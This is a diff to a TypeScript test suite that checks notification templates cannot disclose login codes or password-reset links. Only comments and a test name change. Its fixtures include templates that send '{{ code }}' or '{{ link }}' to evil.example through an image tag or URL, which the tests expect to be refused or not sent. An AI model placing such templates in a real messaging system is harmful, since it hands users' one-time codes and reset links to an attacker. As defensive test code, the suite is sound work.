@@ -27,7 +27,7 @@ beforeEach(async () => {
   gateway.calls.length = 0
 })
 
-/** Of each channel: what gives its code to a stranger. */
+/** For each channel, a template that discloses its code to a stranger. */
 const LEAKS = {
   email: '<p>{{ code }}</p><img src="https://evil.example/?c={{ code }}">',
   sms: '{{ code }} https://evil.example/{{ code }}',
@@ -43,7 +43,7 @@ const formOf = (body: string) => ({
   ...{ Application: 'All', Client: 'All', TemplateId: 'T', Status: 'ACTIVE' },
   ...{ TemplateName: 'login-otp', Subject: 'From a template', Template: body },
 })
-/** As one that was stored before there was a rule. */
+/** Inserts a template past the rules, like one that was stored before they existed. */
 async function stored(channel: Channel, body: string, notice = 'login-otp'): Promise<string> {
   const id = newId()
   await server.db.execute(sql`
@@ -52,7 +52,7 @@ async function stored(channel: Channel, body: string, notice = 'login-otp'): Pro
   return id
 }
 
-/** Everything that a code of a person was sent with, and what the attempts say. */
+/** All texts that a person's code was sent with, and what the attempts say. */
 async function sentWith(notice: 'login-otp' | 'reset-password', values: Record<string, string>) {
   const { id, email } = await aPerson(server)
   await server.db.transaction((tx) => notify(server, tx, notice, id, { minutes: 5, values }))
@@ -67,7 +67,10 @@ async function sentWith(notice: 'login-otp' | 'reset-password', values: Record<s
 const REFUSED = { status: 400 }
 
 describe('every door by which a template enters', () => {
-  /** Each is a call of the console now and of the old one before. What sends is none: it takes what is stored. */
+  /**
+   * Every call that writes a template, of the console and of the former one. Calls that send a message use stored
+   * templates.
+   */
   const DOORS: Record<string, (channel: Channel) => Promise<void>> = {
     create: async (channel) => {
       const answer = await admin.call(RESOURCES[channel].create, formOf(LEAKS[channel]))
@@ -77,14 +80,14 @@ describe('every door by which a template enters', () => {
     },
     update: async (channel) => {
       const { data: row } = await admin.call(RESOURCES[channel].create, formOf(SAFE[channel]))
-      // What is not changed stays: no form gets by with a part of itself.
+      // Unchanged fields stay: a form with only some fields is checked as a whole, too.
       const { Subject: _, ...part } = formOf(LEAKS[channel])
       for (const form of [formOf(LEAKS[channel]), { ...part, Subject: row.Subject }])
         expect(await admin.call(RESOURCES[channel].update, { ...form, _id: row._id })).toMatchObject(REFUSED)
       const { rows } = await server.db.execute(sql`select body from templates`)
       expect(rows).toEqual([{ body: SAFE[channel] }])
     },
-    // A version that was kept is brought back by a change, whatever it was.
+    // Restoring a kept version is a change, and is checked like one.
     'a version': async (channel) => {
       const id = await stored(channel, LEAKS[channel])
       await admin.call(RESOURCES[channel].update, { ...formOf(SAFE[channel]), _id: id })
@@ -95,7 +98,7 @@ describe('every door by which a template enters', () => {
         REFUSED,
       )
     },
-    // What was deleted comes back as it was, and is not sent.
+    // A restored template comes back unchanged, but is not used for sending.
     restore: async (channel) => {
       const id = await stored(channel, LEAKS[channel])
       await admin.call(RESOURCES[channel].remove, { _id: id })
@@ -142,7 +145,7 @@ describe('an SMS template that was stored before gives way to the built-in text,
     expect(answerOf('sms')).toContain('The template could not be used: ')
   })
 
-  test('and is not sent at all where there is none', async () => {
+  test('and is not sent at all when there is no built-in text', async () => {
     await stored('sms', 'Open {{ link }} or https://evil.example/?u={{ link }}', 'reset-password')
     const { sms, answerOf } = await sentWith('reset-password', { link: 'http://localhost:3000/resetpassword/secret' })
     expect(sms).toBe('')
